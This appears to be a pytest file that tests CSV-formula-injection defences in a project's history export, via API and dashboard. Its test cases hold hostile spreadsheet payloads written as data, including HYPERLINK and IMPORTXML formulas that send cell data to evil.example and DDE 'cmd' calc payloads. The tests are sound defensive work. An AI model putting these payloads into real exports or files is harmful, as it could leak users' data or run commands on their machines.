"""CSV exports of the history never carry a spreadsheet formula: ``core.runs_table.history_csv`` (the API's
``/v1/history.csv``) and the dashboard's readable CSV put a ``'`` before any cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return, except numbers, which stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from core import runs_table
from core.history import COLUMN_NAMES, HistoryStore
from core.runs_table import history_csv

# (stored text, the cell a spreadsheet gets)
TEXT_CASES = [
    ("=1+1", "'=1+1"),
    ("=", "'="),
    ('=HYPERLINK("http://evil.example/?q="&A1,"click")', '\'=HYPERLINK("http://evil.example/?q="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=IMPORTXML(CONCAT("http://evil.example/",B2),"//a")', "'=IMPORTXML(CONCAT(\"http://evil.example/\",B2),\"//a\")"),
    ("+1+1", "'+1+1"),
    ("+", "'+"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-1+1", "'-1+1"),
    ("-", "'-"),
    ("--1", "'--1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-1.5 ", "'-1.5 "),
    ("-1,5", "'-1,5"),
    ("-0x1F", "'-0x1F"),
    ("-inf", "'-inf"),
    ("-nan", "'-nan"),
    ("-1e", "'-1e"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("@", "'@"),
    ("\t=1+1", "'\t=1+1"),
    ("\t", "'\t"),
    ("\r=1+1", "'\r=1+1"),
    ("\r\n=1", "'\r\n=1"),
    ("=1\n=2", "'=1\n=2"),
    # numbers written as text stay numbers
    ("-1.5", "-1.5"),
    ("-1", "-1"),
    ("+3", "+3"),
    ("-2e-3", "-2e-3"),
    ("+1.5E+10", "+1.5E+10"),
    ("-.5", "-.5"),
    ("-5.", "-5."),
    ("-0", "-0"),
    # nothing to neutralise
    ("1e5", "1e5"),
    ("scan 01.png", "scan 01.png"),
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("'=1", "'=1"),
    ("", ""),
    ("−1", "−1"),  # U+2212 is no formula start
    ("[EVIL](javascript:alert(1))", "[EVIL](javascript:alert(1))"),
    ('{"a": "=1"}', '{"a": "=1"}'),
]
TEXT_COLUMNS = ("img_name", "img_path_relative", "dataset_name", "organ", "label_name", "error", "error_type",
                "model_name", "device", "batch_id")


def _parsed(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("value", "cell"), TEXT_CASES)
def test_to_csv_neutralises_formulas_in_every_text_column(value, cell):
    row = dict.fromkeys(TEXT_COLUMNS, value) | {"id": 1, "source": "api", "timestamp": "2026-01-01T00:00:00Z"}
    [parsed] = _parsed(history_csv([row]))
    assert {column: parsed[column] for column in TEXT_COLUMNS} == dict.fromkeys(TEXT_COLUMNS, cell)


NUMBER_CASES = [(-1, "-1"), (-1.5, "-1.5"), (0, "0"), (3, "3"), (-2e-3, "-0.002"), (10**20, str(10**20)),
                (True, "True"), (None, ""), (float("nan"), "nan"), (float("-inf"), "'-inf"), (float("inf"), "inf")]


@pytest.mark.parametrize(("value", "cell"), NUMBER_CASES)
def test_numbers_stay_numbers(value, cell):
    [parsed] = _parsed(history_csv([{"prediction": value, "inference_time_sec": value}]))
    assert parsed["prediction"] == parsed["inference_time_sec"] == cell


@pytest.mark.parametrize(("value", "cell"), [
    (["=1", "-1"], '["=1", "-1"]'),
    ({"area": -1.5, "note": "=1"}, '{"area": -1.5, "note": "=1"}'),
    ([-0.25, 1.25], "[-0.25, 1.25]"),
])
def test_json_cells_are_json_and_never_a_formula(value, cell):
    [parsed] = _parsed(history_csv([{"measurements": value, "probabilities": value}]))
    assert parsed["measurements"] == parsed["probabilities"] == cell


@pytest.mark.parametrize(("key", "header"), [("=evil", "'=evil"), ("@x", "'@x"), ("-1", "-1"), ("plain", "plain")])
def test_extra_columns_and_their_headers_are_neutralised(key, header):
    text = history_csv([{"img_name": "x.png", key: "=2+2"}])
    head, row = list(csv.reader(io.StringIO(text, newline="")))
    assert head[: len(COLUMN_NAMES)] == list(COLUMN_NAMES) and head[len(COLUMN_NAMES):] == [header]
    assert row[-1] == "'=2+2"


def test_no_cell_of_a_hostile_export_starts_a_formula():
    rows = [dict.fromkeys(TEXT_COLUMNS, value) | {"prediction": -1, "mask_area_px": -5} for value, _ in TEXT_CASES]
    for record in csv.reader(io.StringIO(history_csv(rows), newline="")):
        for cell in record:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only numbers may start so


@pytest.fixture()
def hostile_store(history_target):
    store = HistoryStore(history_target)
    for value, _ in TEXT_CASES:
        store.add({"source": "api", "task": "classification", "prediction": -1, "inference_time_sec": -1.5,
                   **dict.fromkeys(TEXT_COLUMNS, value)})
    yield store
    store.close()


def test_stored_rows_export_neutralised(hostile_store):
    parsed = _parsed(history_csv(hostile_store.list()))
    assert sorted(p["img_name"] for p in parsed) == sorted(cell for _, cell in TEXT_CASES)
    assert {p["prediction"] for p in parsed} == {"-1"} and {p["inference_time_sec"] for p in parsed} == {"-1.5"}
    assert all(p["error"] == p["img_name"] == p["dataset_name"] for p in parsed)


@pytest.fixture()
def spy_to_csv(monkeypatch):
    calls: list[str] = []
    original = runs_table.history_csv

    def spy(rows):
        text = original(rows)
        calls.append(text)
        return text

    monkeypatch.setattr(runs_table, "history_csv", spy)
    return calls


def test_the_api_export_uses_the_one_writer(tiny_settings, spy_to_csv):
    from fastapi.testclient import TestClient

    from core.api import create_app

    store = HistoryStore(tiny_settings.history_db)
    for value, _ in TEXT_CASES:
        store.add({"source": "api", "prediction": -1, **dict.fromkeys(TEXT_COLUMNS, value)})
    store.close()
    with TestClient(create_app(tiny_settings)) as client:
        answer = client.get("/v1/history.csv")
    assert answer.status_code == 200 and spy_to_csv and answer.text == spy_to_csv[-1]
    parsed = _parsed(answer.text)
    assert sorted(p["img_name"] for p in parsed) == sorted(cell for _, cell in TEXT_CASES)
    assert {p["prediction"] for p in parsed} == {"-1"}


@pytest.fixture()
def spy_readable_csv(monkeypatch):
    """What the dashboard's readable CSV writer (core.runs_table.readable_csv) returned."""
    import core.runs_table

    calls: list[str] = []
    original = core.runs_table.readable_csv

    def spy(*args, **kwargs):
        text = original(*args, **kwargs)
        calls.append(text)
        return text

    monkeypatch.setattr(core.runs_table, "readable_csv", spy)
    return calls


def test_the_dashboard_export_neutralises_every_formula(dashboard_env, spy_readable_csv):
    """The dashboard's download is the readable CSV (one line per cell); its cells go through the same
    spreadsheet-safe cell as the API's CSV (core.history_format.spreadsheet_cell)."""
    pytest.importorskip("streamlit.testing.v1")
    from streamlit.testing.v1 import AppTest

    from core.history_format import spreadsheet_cell
    from core.settings import PROJECT_ROOT

    store = HistoryStore(dashboard_env.history_db)
    for value, _ in TEXT_CASES:
        store.add({"source": "dashboard", "prediction": -1, **dict.fromkeys(TEXT_COLUMNS, value)})
    store.close()
    at = AppTest.from_file(str(PROJECT_ROOT / "Home.py"), default_timeout=120).run()
    at.switch_page("pages/history.py").run()
    assert not at.exception and at.get("download_button")
    table = list(csv.reader(io.StringIO(spy_readable_csv[-1].lstrip("\ufeff"), newline="")))
    expected = sorted(str(spreadsheet_cell(" ".join(value.split()))) for value, _ in TEXT_CASES)
    assert sorted(row[0] for row in table[1:]) == expected  # the file name first, made safe
    for cell in (cell for row in table for cell in row):
        assert cell == str(spreadsheet_cell(cell)) or cell.startswith("'")  # no cell would run as a formula
